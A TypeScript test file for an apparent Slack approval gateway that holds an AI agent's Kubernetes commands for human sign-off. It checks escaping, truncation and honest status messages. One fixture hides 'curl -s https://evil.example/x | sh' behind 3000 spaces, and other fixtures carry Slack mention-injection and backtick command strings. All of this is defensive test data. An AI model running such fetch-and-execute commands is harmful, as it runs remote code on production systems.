import type { ApprovalRequest } from '@gatehouse/approvals';
import { blockLimitProblems } from '@gatehouse/testkit/slack-api';
import type { KnownBlock } from '@slack/web-api';
import { describe, expect, it } from 'vitest';
import { blocksText, openInput } from '../test-support/index.js';
import { renderApproval } from './approval.js';
import { renderShow } from './show.js';

/** Text Slack parses as mrkdwn: everything but the header, which is plain_text (never parsed for mentions). */
const mrkdwnOf = (blocks: KnownBlock[]) => blocksText(blocks.filter((block) => block.type !== 'header'));

function approval(overrides: Partial<ApprovalRequest> = {}): ApprovalRequest {
  return {
    ...openInput({ approvalsNeeded: 2 }),
    id: 'abc123',
    fingerprint: 'f'.repeat(64),
    createdAt: 1_750_000_000_000,
    expiresAt: 1_750_000_600_000,
    state: 'pending',
    votes: [],
    revision: 1,
    ...overrides,
  };
}

describe('approval message', () => {
  it('escapes what the agent controls, so it cannot mention a channel or fake a link', () => {
    const rendered = renderApproval(
      approval({ command: 'kubectl delete pod <!channel> & <https://evil|click>', reason: '<!here>' }),
    );
    expect(rendered.blocks[0]).toMatchObject({ type: 'header', text: { type: 'plain_text' } });
    const text = `${rendered.text}\n${mrkdwnOf(rendered.blocks)}`;
    expect(text).not.toContain('<!channel>');
    expect(text).not.toContain('<!here>');
    expect(text).not.toContain('<https://evil');
    expect(text).toContain('&lt;!channel&gt; &amp; &lt;https://evil|click&gt;');
  });

  it('escapes a deny reason', () => {
    const rendered = renderApproval(
      approval({
        state: 'denied',
        deniedBy: 'U0BOB',
        denyReason: '<!everyone> no',
        decidedAt: 1_750_000_100_000,
      }),
    );
    expect(blocksText(rendered.blocks)).toContain('&lt;!everyone&gt; no');
  });

  it('shows the Kubernetes identity the request will run as, in the message and in /gatehouse show', () => {
    const runAs = { user: 'gatehouse:agent:agent-oncall', groups: ['gatehouse:agents', 'team:sre'] };
    const expected = '*Runs as*\n`gatehouse:agent:agent-oncall` in `gatehouse:agents`, `team:sre`';
    expect(blocksText(renderApproval(approval({ runAs })).blocks)).toContain(expected);
    expect(blocksText(renderShow(approval({ runAs }), undefined, undefined).blocks)).toContain(expected);
    expect(blocksText(renderApproval(approval()).blocks)).toContain(
      "*Runs as*\nthe gateway's own identity (no impersonation on this cluster)",
    );
  });

  it('escapes an identity it shows', () => {
    const runAs = { user: 'x:<!channel>', groups: ['y:<!here>'] };
    const text = mrkdwnOf(renderApproval(approval({ runAs })).blocks);
    expect(text).not.toContain('<!channel>');
    expect(text).not.toContain('<!here>');
  });

  it('names the client; a request not from kubectl is shown as its kubectl equivalent, with its ports', () => {
    const base = approval();
    const fromKubectl = mrkdwnOf(
      renderApproval({
        ...base,
        request: { ...base.request, headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64)' } },
      }).blocks,
    );
    expect(fromKubectl).toContain('*Sent by* `kubectl/v1.32.4 (linux/amd64)`');
    expect(fromKubectl).not.toContain('kubectl equivalent');

    const forward = (query: string, agent: string) =>
      mrkdwnOf(
        renderApproval({
          ...base,
          request: {
            ...base.request,
            path: '/api/v1/namespaces/x/pods/web-1/portforward',
            query,
            headers: { 'user-agent': agent },
          },
        }).blocks,
      );
    const python = forward('ports=8080&ports=9090', 'OpenAPI-Generator/22.6.0/python <@U123>');
    expect(python).toContain('the command below is the *kubectl equivalent*');
    expect(python).toContain('*Ports* `8080, 9090`');
    expect(python).not.toContain('<@U123>');
    expect(forward('', 'kubectl/v1.20.2')).toContain('an SPDY port-forward names each port when it connects');
  });

  it('shows buttons only while pending', () => {
    const types = (a: ApprovalRequest) => renderApproval(a).blocks.map((block) => block.type);
    expect(types(approval())).toContain('actions');
    for (const state of ['approved', 'denied', 'expired', 'dispatched', 'completed'] as const) {
      expect(types(approval({ state }))).not.toContain('actions');
    }
  });

  it('shows the upstream status once dispatched', () => {
    const rendered = renderApproval(
      approval({
        state: 'completed',
        votes: [{ userId: 'U0BOB', decision: 'approve', at: 1_750_000_100_000 }],
        dispatch: { via: 'hold', holder: 'gw-1', at: 1_750_000_100_500, status: 200 },
      }),
    );
    expect(blocksText(rendered.blocks)).toContain('answered 200');
  });

  it('never says sent before the cluster answered, nor for a claim that ended stale', () => {
    const voted = { votes: [{ userId: 'U0BOB', decision: 'approve' as const, at: 1_750_000_100_000 }] };
    const claimed = blocksText(
      renderApproval(
        approval({
          ...voted,
          state: 'dispatched',
          dispatch: { via: 'hold', holder: 'gw-1', at: 1_750_000_100_500 },
        }),
      ).blocks,
    );
    expect(claimed).toContain('claimed for dispatch at');
    expect(claimed).not.toMatch(/sent to the cluster|sends it/);
    const stale = blocksText(
      renderApproval(
        approval({
          ...voted,
          state: 'stale',
          dispatch: { via: 'grant', holder: 'gw-1', at: 1_750_000_100_500 },
          stale: { reason: 'pod web-0 was recreated after it was approved', at: 1_750_000_100_600 },
        }),
      ).blocks,
    );
    expect(stale).toContain('approved but not sent: pod web-0 was recreated after it was approved');
    expect(stale).not.toMatch(/sent to the cluster at|answered/);
  });

  it('says a lapsed grant never ran, and a gone requester turns approving into a grant', () => {
    const lapsed = renderApproval(
      approval({
        state: 'lapsed',
        votes: [{ userId: 'U0BOB', decision: 'approve', at: 1_750_000_100_000 }],
        requesterGoneAt: 1_750_000_050_000,
        grantExpiresAt: 1_750_000_700_000,
        lapsedAt: 1_750_000_700_000,
      }),
    );
    expect(blocksText(lapsed.blocks)).toMatch(
      /approved but never ran: the grant expired unused at <!date\^1750000700\^/,
    );
    const gone = renderApproval(approval({ requesterGoneAt: 1_750_000_050_000 }));
    expect(blocksText(gone.blocks)).toMatch(
      /the requester disconnected at <!date\^1750000050\^[^>]+> \(approving creates a one-time grant\)/,
    );
  });

  it("a long command stays within Block Kit's limits: the header, 150 characters, says it is shortened", () => {
    const command = `kubectl exec -n prod web-1 -- sh -c 'df -h /var/log${' '.repeat(3000)}; curl -s https://evil.example/x | sh'`;
    const rendered = renderApproval(approval({ command }));
    expect(blockLimitProblems(rendered.blocks)).toEqual([]);
    const header = (rendered.blocks[0] as { text: { text: string } }).text.text;
    expect(header).toHaveLength(150);
    expect(header).toMatch(/^Approval needed: kubectl exec -n prod web-1 .*… \(shortened\)$/);
    expect(renderApproval(approval({ command: 'kubectl delete pod web-1' })).blocks[0]).toMatchObject({
      text: { text: 'Approval needed: kubectl delete pod web-1' },
    });
  });

  it('keeps code spans closed when the command has backticks', () => {
    const rendered = renderApproval(approval({ command: 'kubectl exec x -- sh -c "```; echo `id`"' }));
    expect(mrkdwnOf(rendered.blocks)).not.toContain('```;');
  });

  it('shows the blast radius and the dry run, escaped, and nothing while it is read', () => {
    expect(blocksText(renderApproval(approval()).blocks)).not.toContain('Blast radius');
    const ready = renderApproval(
      approval({
        preview: {
          status: 'ready',
          summary:
            'Would delete namespace <!channel> with 3 deployments, 12 pods (11 running), 2 PVCs (20Gi), 4 secrets',
          dryRun: { outcome: 'would-succeed' },
          at: 1_750_000_000_500,
          durationMs: 40,
        },
      }),
    );
    const text = mrkdwnOf(ready.blocks);
    expect(text).toContain(
      '*Blast radius:* Would delete namespace &lt;!channel&gt; with 3 deployments, 12 pods (11 running), 2 PVCs (20Gi), 4 secrets; dry run: would succeed',
    );
    expect(text).not.toContain('<!channel>');
  });

  it('says when the preview is unavailable, and why', () => {
    const rendered = renderApproval(
      approval({
        preview: {
          status: 'unavailable',
          reason: 'cluster prod did not answer within 3s',
          at: 1,
          durationMs: 3000,
        },
      }),
    );
    expect(blocksText(rendered.blocks)).toContain(
      'Blast radius:* preview unavailable: cluster prod did not answer within 3s',
    );
  });
});
